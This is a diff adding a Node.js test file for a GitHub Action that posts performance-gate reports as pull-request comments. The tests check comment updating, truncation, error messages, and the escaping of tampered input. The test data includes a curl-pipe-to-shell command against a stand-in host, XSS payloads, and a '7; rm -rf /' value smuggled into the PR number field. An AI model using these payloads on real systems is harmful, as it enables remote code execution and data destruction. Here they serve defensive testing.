@@ -1,0 +1,160 @@
+// The bundled action against a local fake of GitHub's REST API: the sticky comment's life cycle,
+// the checks on what the artifact claims, and the errors a user sees.
+import assert from 'node:assert/strict'
+import { after, before, beforeEach, test } from 'node:test'
+import { emptyState, startFakeGitHub } from './fake-github.js'
+import { HEAD_SHA, fixture, runAction, summaryFile } from './run-action.js'
+
+const MARKER = '<!-- kafka-perf-gate-comment:kafka-perf-gate -->'
+let fake
+let summary
+
+before(async () => {
+  fake = await startFakeGitHub()
+  summary = summaryFile(fixture('confirmed-regression.json'))
+})
+after(() => fake.close())
+beforeEach(() => {
+  Object.assign(fake.state, emptyState(), { pulls: { 7: { head: { sha: HEAD_SHA } } } })
+})
+
+const commentInputs = (overrides = {}) => ({ summary, 'pr-number': '7', 'head-sha': HEAD_SHA, 'run-url': 'https://github.test/acme/payments/actions/runs/42', ...overrides })
+
+function assertSucceeded(result) {
+  assert.equal(result.code, 0, `action failed:\n${result.stdout}\n${result.stderr}`)
+}
+
+test('creates one comment, then updates the same comment on the next run', async () => {
+  const first = await runAction(commentInputs(), { apiUrl: fake.url })
+  assertSucceeded(first)
+  assert.equal(first.outputs['comment-action'], 'created')
+  assert.equal(fake.state.comments.length, 1)
+  const [comment] = fake.state.comments
+  assert.ok(comment.body.startsWith(MARKER))
+  assert.match(comment.body, /❌ kafka-perf-gate: 2 confirmed regressions/)
+
+  const second = await runAction(commentInputs({ summary: summaryFile(fixture('all-passed.json')) }), { apiUrl: fake.url })
+  assertSucceeded(second)
+  assert.equal(second.outputs['comment-action'], 'updated')
+  assert.equal(second.outputs['comment-id'], String(comment.id))
+  assert.equal(fake.state.comments.length, 1, 'still exactly one comment')
+  assert.doesNotMatch(fake.state.comments[0].body, /confirmed regression/)
+  assert.ok(fake.state.requests.some((request) => request.startsWith(`PATCH /repos/acme/payments/issues/comments/${comment.id}`)))
+})
+
+test('finds its comment on page 2 of a long comment list', async () => {
+  const others = Array.from({ length: 150 }, (_, index) => ({ id: index + 1, issue_number: 7, user: { login: `reviewer${index}` }, body: `looks good ${index}` }))
+  const ours = { id: 500, issue_number: 7, user: { login: 'github-actions[bot]' }, body: `${MARKER}\nold report` }
+  fake.state.comments = [...others.slice(0, 120), ours, ...others.slice(120)]
+
+  const result = await runAction(commentInputs(), { apiUrl: fake.url })
+  assertSucceeded(result)
+  assert.equal(result.outputs['comment-action'], 'updated')
+  assert.equal(result.outputs['comment-id'], '500')
+  assert.equal(fake.state.comments.length, 151, 'no new comment')
+  assert.ok(fake.state.requests.some((request) => /issues\/7\/comments\?.*page=2/.test(request)), 'read page 2')
+  assert.match(fake.state.comments[120].body, /confirmed regression/)
+})
+
+test('ignores the marker in a comment by another user', async () => {
+  const quoted = { id: 9, issue_number: 7, user: { login: 'mallory' }, body: `${MARKER}\nquoted the bot` }
+  fake.state.comments = [quoted]
+
+  const result = await runAction(commentInputs(), { apiUrl: fake.url })
+  assertSucceeded(result)
+  assert.equal(result.outputs['comment-action'], 'created')
+  assert.equal(fake.state.comments.length, 2)
+  assert.equal(fake.state.comments[0].body, `${MARKER}\nquoted the bot`, "mallory's comment is untouched")
+  assert.equal(fake.state.comments[1].user.login, 'github-actions[bot]')
+})
+
+test('truncates a report over 65,536 characters, says so, and keeps every row in the job summary', async () => {
+  const base = fixture('confirmed-regression.json')
+  const scenarios = Array.from({ length: 600 }, (_, index) => ({ ...base.scenarios.at(-1), scenario: `sweep-batch-size-${index}` }))
+  const big = summaryFile({ ...base, scenarios: [...base.scenarios, ...scenarios] })
+
+  const result = await runAction(commentInputs({ summary: big }), { apiUrl: fake.url })
+  assertSucceeded(result)
+  const body = fake.state.comments[0].body
+  assert.ok(body.length <= 65_536, `comment is ${body.length} characters`)
+  assert.ok(body.length > 60_000, 'fills the space it has')
+  assert.match(body, /rows? not shown: GitHub limits a comment to 65,536 characters/)
+  assert.match(body, /❌ REGRESSION/, 'the regression row survives truncation')
+  assert.match(result.stdout, /::warning::the comment leaves out \d+ rows/)
+  assert.match(result.jobSummary, /sweep&#45;batch|sweep-batch-size-599/)
+  assert.doesNotMatch(result.jobSummary, /not shown/)
+})
+
+test('escapes strings from the artifact: no HTML, Markdown, table breaks or mentions', async () => {
+  const hostile = '<img src=x onerror=alert(1)> @octocat | [click](https://evil.test) **x** #1 `code` www.evil.test'
+  const base = fixture('all-passed.json')
+  const tampered = {
+    ...base,
+    suite: 'pr; curl evil.test | sh',
+    scenarios: [{ ...base.scenarios[0], scenario: hostile, outcome: 'error', message: '@here\n# Heading\n<script>x</script>' }, ...base.scenarios.slice(1)],
+    fingerprint: { ...base.fingerprint, jvm: '<b>jvm</b> @admins' },
+    complete: false,
+  }
+  const result = await runAction(commentInputs({ summary: summaryFile(tampered) }), { apiUrl: fake.url })
+  assertSucceeded(result)
+  const body = fake.state.comments[0].body
+  for (const forbidden of ['<img', '<script', '<b>', '@octocat', '@here', '@admins', '](https://evil', '**x**', '| [click', '\n# Heading', '`code`', 'www.evil', 'curl evil']) {
+    assert.ok(!body.includes(forbidden), `comment contains ${JSON.stringify(forbidden)}`)
+  }
+  assert.match(body, /&lt;img src&#61;x|&lt;img src=x/, 'the text is shown, escaped')
+  assert.match(body, /💥 kafka-perf-gate: incomplete run, 1 scenario could not run/)
+  const reproduce = body.slice(body.indexOf('```sh'))
+  assert.doesNotMatch(reproduce, /-Dperf\.suite/, 'an unsafe suite name never reaches the command line')
+})
+
+test('a 403 from a read-only token fails with one ::error:: line that says why', async () => {
+  fake.state.failWrites = 403
+  const result = await runAction(commentInputs(), { apiUrl: fake.url })
+  assert.equal(result.code, 1)
+  const errors = result.stdout.split('\n').filter((line) => line.startsWith('::error::'))
+  assert.equal(errors.length, 1, result.stdout)
+  assert.match(errors[0], /GitHub API POST \/repos\/acme\/payments\/issues\/7\/comments failed with 403 \(Resource not accessible by integration\)/)
+  assert.match(errors[0], /fork/)
+})
+
+test('does not comment when the PR head is not the commit the gate measured', async () => {
+  fake.state.pulls = { 7: { head: { sha: 'b'.repeat(40) } } }
+  const result = await runAction(commentInputs(), { apiUrl: fake.url })
+  assertSucceeded(result)
+  assert.equal(result.outputs['comment-action'], 'skipped')
+  assert.match(result.stdout, /::warning::not commenting: PR #7's head is b{40}, but the gate run measured a{40}/)
+  assert.equal(fake.state.comments.length, 0)
+})
+
+test('refuses a PR number that is not a positive integer, before any API call', async () => {
+  for (const number of ['7; rm -rf /', '-1', '0', '7.5', '']) {
+    const result = await runAction(commentInputs({ 'pr-number': number }), { apiUrl: fake.url })
+    assert.equal(result.code, 1, `pr-number ${JSON.stringify(number)} was accepted`)
+    assert.match(result.stdout, /::error::.*pr-number/)
+  }
+  assert.deepEqual(fake.state.requests, [])
+})
+
+test('a PR number the repository does not have fails with 404 and the path', async () => {
+  const result = await runAction(commentInputs({ 'pr-number': '8' }), { apiUrl: fake.url })
+  assert.equal(result.code, 1)
+  assert.match(result.stdout, /::error::GitHub API GET \/repos\/acme\/payments\/pulls\/8 failed with 404/)
+})
+
+test('job-summary mode writes the report and calls no API', async () => {
+  const result = await runAction({ summary, mode: 'job-summary' }, { apiUrl: fake.url })
+  assertSucceeded(result)
+  assert.equal(result.outputs['comment-action'], 'none')
+  assert.match(result.jobSummary, /❌ kafka-perf-gate: 2 confirmed regressions/)
+  assert.deepEqual(fake.state.requests, [])
+})
+
+test('a summary that is not the gate\'s fails naming the file and field', async () => {
+  const broken = summaryFile({ schemaVersion: 1, complete: true, scenarios: [{ outcome: 'passed' }] })
+  const result = await runAction({ summary: broken, mode: 'job-summary' })
+  assert.equal(result.code, 1)
+  assert.match(result.stdout, /::error::.*summary\.json: field scenarios\[0\]\.scenario: expected a scenario name/)
+  const truncated = summaryFile('{"schemaVersion": 1, "scen')
+  const second = await runAction({ summary: truncated, mode: 'job-summary' })
+  assert.match(second.stdout, /::error::.*summary\.json: not valid JSON/)
+})
